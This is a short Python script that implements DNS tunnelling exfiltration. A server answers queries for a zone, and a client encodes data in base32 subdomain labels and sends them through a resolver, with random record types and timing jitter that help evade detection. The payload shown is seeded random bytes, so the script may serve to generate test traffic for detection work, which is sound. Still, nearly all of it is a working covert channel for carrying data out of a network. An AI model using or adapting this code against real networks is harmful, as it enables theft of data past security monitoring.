"""exfil.py server IP | exfil.py client ZONE BYTES: a file carried out in DNS names, answered by a server that holds the zone."""

import base64
import random
import socket
import struct
import sys
import time

from ask import ask


def server(ip):
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.bind((ip, 53))
    while True:
        data, peer = link.recvfrom(4096)
        at = 12
        while data[at]:
            at += data[at] + 1
        question = data[12 : at + 5]
        kind = struct.unpack(">H", question[-4:-2])[0]
        body = b"\x09modtaget1" if kind == 16 else socket.inet_aton("203.0.113.54")
        link.sendto(data[:2] + struct.pack(">HHHHH", 0x8580, 1, 1, 0, 0) + question
                    + struct.pack(">HHHIH", 0xC00C, kind, 1, 1, len(body)) + body, peer)


def client(zone, size):
    secret = random.Random(11).randbytes(size)
    for number, at in enumerate(range(0, size, 60)):
        text = base64.b32encode(secret[at : at + 60]).decode().rstrip("=").lower()
        ask("10.20.30.1", f"{number:x}.{text[:48]}.{text[48:]}.{zone}", random.choice(("TXT", "A")))
        time.sleep(random.uniform(0.02, 0.08))


if sys.argv[1] == "server":
    server(sys.argv[2])
else:
    client(sys.argv[2], int(sys.argv[3]))
